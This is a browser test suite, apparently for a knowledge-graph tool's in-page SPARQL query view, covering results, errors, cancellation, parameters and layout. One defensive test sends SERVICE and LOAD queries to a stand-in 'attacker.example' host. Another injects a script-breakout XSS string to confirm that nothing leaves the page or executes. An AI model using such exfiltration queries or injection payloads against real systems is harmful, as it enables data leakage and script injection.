"""SPARQL in the page: the answers of `kg query`, errors with their line, stopping, and nothing that leaves."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
from playwright.sync_api import Page, expect

from browser import hostile, sample
from browser.asked import PREFIXES, quads, with_sparql
from browser.conftest import Opener
from kg import queries
from kg.project import Project
from kg.store import Store, read_prefixes
from kg.views.bundle import find_bundle
from kg.views.records import PageData, PageQuestion, PageSparql

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(find_bundle() is None, reason="kg/views/built/ is missing: run python hatch_build.py"),
]

#: It would take hours: every pair of pairs of statements, none of which fits.
ENDLESS = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . FILTER (?a != ?l) }"


@cache
def small() -> PageData:
    question = PageQuestion(
        name="what-is-said", summary="What is said of what?", text="SELECT ?claim ?thing WHERE { ?claim :about ?thing }"
    )
    return with_sparql(sample.small(), quads(sample.small()), question)


def start(page: Page) -> None:
    page.click("#view-ask")
    expect(page.locator("#ask-status")).to_contain_text("Ready", timeout=20_000)


def ask(page: Page, text: str) -> None:
    content = page.locator("#ask-editor .cm-content")
    content.focus()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(text)
    page.keyboard.press("Control+Enter")


def answered(page: Page, words: str) -> None:
    expect(page.locator("#ask-status")).to_contain_text(words, timeout=20_000)


def test_a_question_is_chosen_and_its_cells_lead_on(open_page: Opener) -> None:
    page = open_page(small()).page
    start(page)
    page.select_option("#ask-question", "what-is-said")
    answered(page, "7 rows in ")
    rows = page.locator("#ask-answer tbody tr")
    expect(rows).to_have_count(7)
    page.click("#ask-answer thead button >> text=thing")
    expect(page.locator("#ask-answer th[aria-sort=ascending]")).to_have_text("thing")
    assert rows.locator("td:nth-child(2)").all_inner_texts() == ["Halo"] * 3 + ["Halo team"] * 2 + ["Maker"] * 2
    rows.first.locator("td:nth-child(2) button").click()
    assert page.evaluate("kgPage.selection()") == {"kind": "node", "id": "halo"}
    rows.first.locator("td:nth-child(1) button").click(force=True)
    assert page.evaluate("kgPage.selection().kind") == "claims"
    with page.expect_download() as download:
        page.click("#ask-save", force=True)
    saved = list(csv.reader(io.StringIO(Path(download.value.path()).read_text("utf-8-sig"))))
    assert saved[0] == ["claim", "thing"]
    assert len(saved) == 8


def test_an_answer_narrows_the_graph(open_page: Opener) -> None:
    page = open_page(small()).page
    start(page)
    ask(page, "SELECT ?claim WHERE { ?claim :about ent:halo ; :object ent:rival }")
    answered(page, "2 rows")
    page.click("#ask-show")
    shown = page.evaluate("kgPage.shown()")
    assert (shown["claims"], shown["nodes"]) == (2, 2)
    page.click("#reset")
    assert page.evaluate("kgPage.shown()")["claims"] == 7


@pytest.mark.parametrize(
    ("query", "line"),
    [("SELECT * WHERE {\n  ?a ?b\n}", 3), ("SELEC * WHERE { }", 1), ("SELECT * WHERE { ?a unknown:b ?c }", 1)],
)
def test_an_error_is_one_line_with_its_place(open_page: Opener, query: str, line: int) -> None:
    page = open_page(small()).page
    start(page)
    # Inserted as typed text the editor would close brackets by itself; this is how the page sets a question.
    page.locator("#ask-editor .cm-content").focus()
    ask(page, query)
    fault = page.locator("#ask-fault")
    expect(fault).to_be_visible(timeout=20_000)
    assert "\n" not in fault.inner_text()
    if "unknown:" not in query:
        assert fault.inner_text().startswith(f"Line {line}, column ")
        assert page.locator("#ask-editor .cm-wrong").count() == 1
    ask(page, "ASK { ?a :about ?b }")
    answered(page, "Yes")


def test_a_query_without_end_is_stopped_and_the_next_works(open_page: Opener) -> None:
    nquads = b"".join(
        f"<https://example.org/{a}> <https://example.org/{b}> <https://example.org/{a}{b}> .\n".encode()
        for a in range(100)
        for b in range(50)
    )
    page = open_page(with_sparql(sample.small(), nquads)).page
    start(page)
    ask(page, ENDLESS)
    answered(page, "Running")
    page.wait_for_timeout(300)
    took = page.evaluate("""() => new Promise((done) => {
      const began = performance.now();
      const status = document.getElementById('ask-status');
      new MutationObserver(() => status.textContent === 'Stopped' && done(performance.now() - began))
        .observe(status, { childList: true });
      document.getElementById('ask-stop').click();
    })""")
    assert took < 100
    ask(page, "ASK { ?a ?b ?c }")
    answered(page, "Yes")


def test_nothing_leaves(open_page: Opener) -> None:
    page = open_page(small()).page
    start(page)
    for query in (
        "SELECT * WHERE { SERVICE <https://attacker.example/> { ?a ?b ?c } }",
        "SELECT * WHERE { ?a ?b ?c SERVICE SILENT <https://attacker.example/> { ?d ?e ?f } }",
        "LOAD <https://attacker.example/>",
        "SELECT * FROM <https://attacker.example/> WHERE { ?a ?b ?c }",
    ):
        ask(page, query)
        page.wait_for_function(
            "() => !document.getElementById('ask-fault').hidden"
            " || / in /.test(document.getElementById('ask-status').textContent)"
        )
    # `open_page` proves that no request was tried.


def test_hostile_answers_stay_text(open_page: Opener) -> None:
    data = hostile.build()
    lines = "".join(
        f"<https://example.org/{number}> <https://example.org/says> {ox.Literal(payload.format(n=number))} .\n"
        for number, payload in enumerate(hostile.PAYLOADS)
    )
    bad = "</script><script>window.broken=1</script>"
    header = f"#+ param: b {bad}\n#+ param: constructor {bad}\n"
    question = PageQuestion(name=bad, summary=bad, text=f"{header}SELECT * WHERE {{ ?a :says ?b }} # {bad}")
    page = open_page(with_sparql(data, lines.encode(), question)).page
    start(page)
    page.select_option("#ask-question", index=1)
    answered(page, f"{len(hostile.PAYLOADS)} rows")
    assert page.locator("#ask-answer td img, #ask-answer td script, #ask-answer td iframe").count() == 0
    for number, payload in enumerate(hostile.PAYLOADS):
        text = payload.format(n=number)
        found = page.evaluate("([text, bindings]) => kgPage.ask(text, bindings)", [question.text, {"b": f'"{text}"'}])
        assert [row[1]["value"] for row in found["rows"]] == [text], "a value can neither leave its text nor be changed"
        page.fill("#ask-parameter-b", text)
        page.press("#ask-parameter-b", "Enter")
        page.wait_for_function("() => !/Running/.test(document.getElementById('ask-status').textContent)")
    ask(page, f"SELECT * WHERE {{ {bad} }}")
    expect(page.locator("#ask-fault")).to_be_visible()
    assert page.evaluate("window.broken === undefined")


def test_keyboard_only_with_completion(open_page: Opener) -> None:
    page = open_page(small()).page
    page.focus("#view-ask")
    page.keyboard.press("Enter")
    expect(page.locator("#ask-status")).to_contain_text("Ready", timeout=20_000)
    for _ in range(150):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "ask-editor":
            break
    assert page.evaluate("document.activeElement.id") == "ask-editor"
    page.keyboard.press("Control+a")
    page.keyboard.type("SELECT ?thing WHERE { ?claim :abo", delay=10)
    expect(page.locator("#ask-editor .cm-tooltip-autocomplete")).to_contain_text("is about")
    page.wait_for_timeout(150)
    page.keyboard.press("Enter")
    page.keyboard.type(" ?thing", delay=10)
    page.keyboard.press("Escape")
    page.keyboard.press("Control+Enter")
    answered(page, "7 rows")
    assert page.evaluate("document.activeElement.id") == "ask-editor", "a slash or Escape must not leave the editor"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_has_room_for_it(open_page: Opener, scheme: str) -> None:
    page = open_page(small(), width=380, height=760, scheme=scheme).page
    start(page)
    page.select_option("#ask-question", "what-is-said")
    answered(page, "7 rows")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    for name in ("#ask-run", "#ask-stop", "#ask-show", "#ask-save"):
        box = page.locator(name).bounding_box()
        assert box is not None
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= 380


def test_a_page_without_the_engine_says_so(open_page: Opener) -> None:
    page = open_page(sample.small()).page
    page.click("#view-ask")
    expect(page.locator("#ask-missing")).to_contain_text("built without SPARQL")
    assert "wasm" not in str(page.locator("meta[http-equiv]").get_attribute("content"))


def test_where_nothing_could_be_bundled_the_rest_works(open_page: Opener, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kg.views.page.find_bundle", lambda: None)
    page = open_page(small()).page
    page.click("#view-ask")
    expect(page.locator("#ask-missing")).to_contain_text("built without SPARQL")
    page.evaluate("kgPage.select('node', 'halo')")
    expect(page.locator("#panel h2")).to_have_text("Halo")
    assert "// Start: " in page.content(), "our own script is there as it was written"


def test_every_question_has_the_rows_of_kg_query(open_page: Opener, shipped: Project) -> None:
    asked = queries.read_questions(shipped)
    nquads = (shipped.exports / "graph.nq").read_bytes()
    store = Store(read_prefixes(shipped))
    store.load(shipped.exports / "graph.nq")
    page_questions = tuple(PageQuestion(name=one.name, summary=one.summary, text=one.text) for one in asked.values())
    sparql = PageSparql(prefixes=tuple(store.prefixes.items()), questions=page_questions, terms=(), nquads=nquads)
    page = open_page(replace(sample.small(), sparql=sparql)).page
    start(page)
    for name, question in asked.items():
        found: dict[str, Any] = page.evaluate("text => kgPage.ask(text)", question.text)
        rows = [[term["value"] if term else "" for term in row] for row in found["rows"]]
        wanted = queries.render(queries.run(store, question.text), "csv", store.prefixes).decode()
        head, *body = csv.reader(io.StringIO(wanted, newline=""))
        assert found["columns"] == head, name
        assert (rows if "ORDER BY" in question.text else sorted(rows)) == (
            body if "ORDER BY" in question.text else sorted(body)
        ), name


def test_parameters_have_fields(open_page: Opener) -> None:
    text = (
        "#+ summary: What is said of a thing?\n#+ param: thing what the claim is about, as in -p thing=ent:halo\n"
        "#+ param: quote the sentence\nSELECT ?claim ?thing ?quote WHERE { ?claim :about ?thing ; :quote ?quote }"
    )
    data = with_sparql(sample.small(), quads(sample.small()), PageQuestion(name="of", summary="Of?", text=text))
    page = open_page(data).page
    start(page)
    expect(page.locator("#ask-parameters")).to_be_hidden()
    page.select_option("#ask-question", "of")
    answered(page, "7 rows")
    thing = page.get_by_label("thing", exact=True)
    expect(page.locator(".parameter").first).to_contain_text("what the claim is about")
    for given, rows in {"Halo": 3, "halo": 3, "ent:team": 2, "雷军": 0, f"<{PREFIXES['ent']}maker>": 2, "": 7}.items():
        thing.fill(given)
        thing.press("Enter")
        answered(page, f"{rows} rows in ")
    page.get_by_label("quote", exact=True).fill("The halo model")
    page.click("#ask-run")
    answered(page, "1 row in ")
    ask(page, "SELECT ?x WHERE { ?x :about ent:halo }")
    answered(page, "3 rows in ")
    expect(page.locator("#ask-parameters")).to_be_hidden()


@pytest.mark.parametrize(
    "bindings",
    [{"speaker": "ent:lei-jun"}, {"entity": "ent:su7"}, {"entity": "ent:su7", "speaker": "ent:lei-jun"},
     {"when": "2025"}, {"speaker": "nobody"}],
    ids=str,
)  # fmt: skip
def test_a_parameter_binds_as_in_kg_query(open_page: Opener, shipped: Project, bindings: dict[str, str]) -> None:
    question = queries.read_questions(shipped)["who-says-what"]
    store = Store(read_prefixes(shipped))
    store.load(shipped.exports / "graph.nq")
    nquads = (shipped.exports / "graph.nq").read_bytes()
    sparql = PageSparql(prefixes=tuple(store.prefixes.items()), questions=(), terms=(), nquads=nquads)
    page = open_page(replace(sample.small(), sparql=sparql)).page
    start(page)
    found: dict[str, Any] = page.evaluate("([text, bindings]) => kgPage.ask(text, bindings)", [question.text, bindings])
    rows = [[term["value"] if term else "" for term in row] for row in found["rows"]]
    terms = queries.bind([f"{name}={value}" for name, value in bindings.items()], store.prefixes)
    wanted = queries.render(queries.run(store, question.text, terms), "csv", store.prefixes).decode()
    assert rows == list(csv.reader(io.StringIO(wanted, newline="")))[1:]


def test_a_binding_that_cannot_be_is_said(open_page: Opener) -> None:
    page = open_page(small()).page
    start(page)
    for bindings, words in (({"nothing": "1"}, "no variable ?nothing"), ({"thing": "<a b>"}, "is no IRI")):
        fault = page.evaluate(
            "b => kgPage.ask('SELECT ?thing WHERE { ?c :about ?thing }', b).catch((f) => f.message)", bindings
        )
        assert words in fault
